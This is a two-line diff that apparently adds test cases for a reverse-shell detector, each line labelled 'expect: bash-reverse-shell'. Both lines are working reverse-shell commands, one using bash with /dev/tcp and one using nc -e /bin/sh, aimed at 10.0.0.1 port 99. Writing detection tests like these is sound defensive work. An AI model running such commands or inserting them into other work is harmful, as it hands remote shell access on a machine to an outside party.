@@ -1,0 +1,2 @@
+bash -i > /dev/tcp/10.0.0.1/99 0>&1 # expect: bash-reverse-shell
+nc -e /bin/sh 10.0.0.1 99 # expect: bash-reverse-shell
